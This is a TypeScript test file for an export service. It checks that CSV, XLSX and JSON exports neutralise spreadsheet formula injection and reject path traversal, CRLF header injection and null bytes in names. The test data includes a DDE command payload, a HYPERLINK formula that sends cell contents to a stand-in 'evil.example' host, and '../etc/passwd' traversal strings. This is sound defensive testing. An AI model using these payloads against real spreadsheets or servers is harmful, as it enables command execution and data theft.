// Fault 23: formulas in cells and headers, and paths or line breaks in texts that could become part of a file name.
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import type { Json } from '../../setup/api/api-client.ts'
import { readXlsx } from '../../unit/formats/read-xlsx.ts'
import { type Chaos, startChaos } from '../setup/chaos.ts'
import type { Api } from '../setup/deployment.ts'

/** Text that Excel, LibreOffice or Google Sheets would run as a formula (OWASP, "CSV Injection"). */
const RUNS = [
  ...[`=cmd|' /C calc'!A0`, '=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＠A1'],
  ...['=HYPERLINK("https://evil.example/?"&A1,"x")', '=1+1\r\n=2+2', '"=1+1', ';=1+1'],
]
/** The texts that start a formula. The other two hide one behind a quote or another delimiter. */
const STARTS_AS_FORMULA = /^[=+\-@\t\r\n\0＝＋－＠]/
const PLAIN = ['ordinary', '12-34', 'a=b', '']
const HEADER = `=cmd|' /C calc'!A0`
const PATH_HEADER = '../../../etc/passwd'

describe('fault 23', () => {
  it('dangerous text in cells, headers and file names is harmless and lossless', async (test) => {
    const directory = await mkdtemp(join(tmpdir(), 'waybill-dangerous-'))
    const module = join(directory, 'datasets.mjs')
    await writeFile(module, `export const datasets = [${JSON.stringify(DATASET)}]`)
    const chaos = await startChaos(test, { queue: 'postgres', rows: 0, settings: { DATASETS: module } })
    chaos.defer(() => rm(directory, { recursive: true }))
    const cells = [...RUNS, ...PLAIN]
    await chaos.client.query(
      `INSERT INTO users (id, "externalUserId", created_at)
       SELECT gen_random_uuid(), cell, timestamptz '2026-01-01 00:00:00+00' + place * interval '1 second'
       FROM unnest($1::text[]) WITH ORDINALITY AS given (cell, place)`,
      [cells],
    )
    const [api] = await Promise.all([chaos.startApi(), chaos.startWorker()])

    const csv = await file(api, { dataset: 'dangerous', format: 'csv' })
    const [header, ...rows] = parse(csv.bytes, { relax_quotes: false }) as string[][]
    expect(header).toEqual([`'${HEADER}`, PATH_HEADER])
    expect(rows.map(([cell]) => cell)).toEqual(cells.map((cell) => (STARTS_AS_FORMULA.test(cell) ? `'${cell}` : cell)))
    for (const cell of [...(header ?? []), ...rows.flat()]) expect(cell).not.toMatch(STARTS_AS_FORMULA)

    const [sheet] = readXlsx((await file(api, { dataset: 'dangerous', format: 'xlsx' })).bytes)
    const texts = [...(sheet?.rows.values() ?? [])].map((row) => row.get('A'))
    expect(texts.map((cell) => cell?.value ?? '').slice(1)).toEqual(cells)
    for (const cell of texts) expect(cell?.type ?? 'text').toBe('text')

    const json = JSON.parse((await file(api, { dataset: 'dangerous', format: 'json' })).bytes.toString('utf8'))
    expect(json.map((row: Json) => row[HEADER])).toEqual(cells)
    await chaos.holds([...csv.ids])
    await expectHarmlessNames(chaos, api)
  })
})

const DATASET = {
  name: 'dangerous',
  title: 'Dangerous',
  columns: {
    [HEADER]: { kind: 'text', sql: 'u."externalUserId"' },
    [PATH_HEADER]: { kind: 'text', sql: `'x'` },
  },
  from: 'users u',
  filters: {},
  orderBy: ['u.created_at', 'u.id'],
}

/** Downloads the file, and returns it with the name that a browser would use. */
async function file(api: Api, request: Json): Promise<{ bytes: Buffer; ids: string[] }> {
  const { status, download, filename, ...done } = await api.admin.export(request)
  expect(status, JSON.stringify(done.error)).toBe('completed')
  expect(filename).toMatch(/^dangerous_\d{8}T\d{6}Z\.[a-z]+$/)
  const response = await fetch(download.url)
  expect(response.headers.get('content-disposition')).toBe(`attachment; filename="${filename}"`)
  return { bytes: Buffer.from(await response.arrayBuffer()), ids: [done.id] }
}

/** No text of a caller becomes part of a path, a header or a file name. */
async function expectHarmlessNames(chaos: Chaos, api: Api): Promise<void> {
  const post = (request: Json) => api.admin.post('/v1/exports', { dataset: 'users', format: 'csv', ...request })
  const before = await chaos.client.query('SELECT count(*)::int AS count FROM waybill.exports')
  for (const name of [
    '../../users',
    'users/../../etc/passwd',
    'users\r\nX-Evil: 1',
    'users\0',
    '..\\users',
    '%2e%2e/users',
  ]) {
    for (const request of [{ dataset: name }, { format: name }, { compression: name }, { columns: [name] }]) {
      expect((await post(request)).status, JSON.stringify(request)).toBe(422)
    }
    expect((await post({ webhookUrl: `https://receiver.example/${name}\r\n` })).status).toBe(422)
    const path = `/v1/exports/${encodeURIComponent(name)}`
    for (const answer of [await api.admin.get(path), await api.admin.get(`${path}/download`)]) {
      expect(answer.status, path).toBe(404)
      expect(answer.headers.get('x-evil')).toBeNull()
    }
  }
  const after = await chaos.client.query('SELECT count(*)::int AS count FROM waybill.exports')
  expect(after.rows).toEqual(before.rows)
}
